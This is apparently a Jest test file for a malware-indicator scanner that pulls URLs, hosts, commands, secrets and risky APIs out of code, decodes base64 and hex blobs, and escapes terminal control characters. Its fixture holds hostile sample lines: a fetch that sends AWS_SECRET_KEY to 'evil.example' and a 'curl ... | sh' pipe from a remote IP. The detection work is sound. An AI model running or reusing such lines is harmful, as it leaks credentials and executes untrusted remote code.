import { describe, expect, it } from '@jest/globals';
import { assert, property, string } from 'fast-check';
import { decodeBlobs } from '../../../../src/ai/providers/local/encoded-blobs.js';
import { findIndicators } from '../../../../src/ai/providers/local/indicators.js';
import { obfuscationSigns } from '../../../../src/ai/providers/local/obfuscation-markers.js';
import { quote } from '../../../../src/ai/providers/local/report.js';

function group(text: string, title: string): readonly string[] {
  return findIndicators(text).find((candidate) => candidate.title === title)?.values ?? [];
}

describe('findIndicators', () => {
  const code = `
    const cp = require("child_process"); import fs from 'node:fs';
    fetch("https://evil.example:8443/gate.php?id=1", { headers: { "x": process.env.AWS_SECRET_KEY } });
    cp.execSync("curl -s http://203.0.113.7/x.sh | sh"); const d = process.env["HOME"];
    fs.writeFileSync("/tmp/.cache/run.sh", "x"); connect("c2.example.com", "10.0.0.300", version = "1.2.3.4.5");
    path("C:\\\\Users\\\\Public\\\\a.exe"); eval(code); document.cookie; user.name; "index.js"; "See you tomorrow then";
  `;

  it.each([
    ['Addresses (URL)', ['https://evil.example:8443/gate.php?id=1', 'http://203.0.113.7/x.sh']],
    ['Hosts', ['evil.example', 'c2.example.com']],
    ['IP addresses', ['203.0.113.7']],
    ['Environment variables', ['AWS_SECRET_KEY', 'HOME']],
    ['Modules', ['child_process', 'node:fs']],
    ['Commands', ['curl -s http://203.0.113.7/x.sh | sh']],
    ['File paths', ['/tmp/.cache/run.sh', 'C:\\\\Users\\\\Public\\\\a.exe']],
    ['Interfaces: Network', ['fetch']],
    ['Interfaces: Processes', ['child_process', 'execSync']],
    ['Interfaces: Files', ['writeFileSync']],
    ['Interfaces: Code made from text', ['eval']],
    ['Interfaces: Page and browser data', ['document.cookie']],
  ])('finds %s', (title, expected) => {
    expect(group(code, title)).toEqual(expected);
  });

  it('finds texts', () => {
    expect(group(code, 'Texts')).toContain('See you tomorrow then');
  });

  it('finds nothing in nothing', () => {
    expect(findIndicators('let a = b + c;')).toEqual([]);
  });

  it('lists a few and counts the rest', () => {
    const urls = Array.from({ length: 100 }, (_, index) => `"http://h.example/${index}"`).join(';');
    const [found] = findIndicators(urls);
    expect(found?.values).toHaveLength(20);
    expect(found?.more).toBe(80);
  });

  it('takes time in proportion to the length of the text', () => {
    for (const part of [
      '"',
      'a.',
      '1.',
      'http://',
      '/',
      'C:\\',
      '"/tmp/',
      "'a ",
      'x',
      '%A',
      '_0x11 ',
      '\\x41',
      '1,',
      '[',
    ]) {
      const text = part.repeat(Math.ceil(1_000_000 / part.length));
      const begun = process.cpuUsage();
      findIndicators(text);
      obfuscationSigns(text);
      decodeBlobs(text);
      const ms = process.cpuUsage(begun).user / 1_000;
      if (ms > 2_000) throw new Error(`${part} took ${ms} ms of CPU time`);
    }
  }, 60_000);
});

describe('decodeBlobs', () => {
  it('reads base64 and hexadecimal text', () => {
    const text = 'GET http://example.com/stage2';
    const base64 = Buffer.from(text).toString('base64');
    const hex = Buffer.from(text).toString('hex');
    expect(decodeBlobs(`a("${base64}"); b("${hex}")`)).toEqual([
      { encoding: 'base64', offset: 3, text },
      { encoding: 'hexadecimal', offset: 3 + base64.length + 7, text },
    ]);
  });

  it('does not take words, hashes and random bytes for text', () => {
    const hash = 'd41d8cd98f00b204e9800998ecf8427e';
    expect(decodeBlobs(`thisIsAVeryLongIdentifierName ${hash} /usr/share/applications/whatever`)).toEqual([]);
  });

  it('is bounded', () => {
    const blob = `${Buffer.from('some readable text').toString('base64')} `;
    expect(decodeBlobs(blob.repeat(1_000))).toHaveLength(25);
  });
});

describe('quote', () => {
  it('leaves nothing that could act on a terminal, a line, or the direction of text', () => {
    assert(
      property(string({ unit: 'binary', maxLength: 400 }), (text) => {
        const quoted = quote(text);
        expect(quoted).not.toMatch(/[\p{Cc}\p{Cf}\p{Zl}\p{Zp}]/u);
        expect(quoted.isWellFormed()).toBe(true);
      }),
    );
    expect(quote('a\u202eb\u001b[2Jc\nd')).toBe('a\\u{202e}b\\u{1b}[2Jc\\nd');
    expect(quote('x'.repeat(1_000)).length).toBeLessThanOrEqual(201);
  });
});
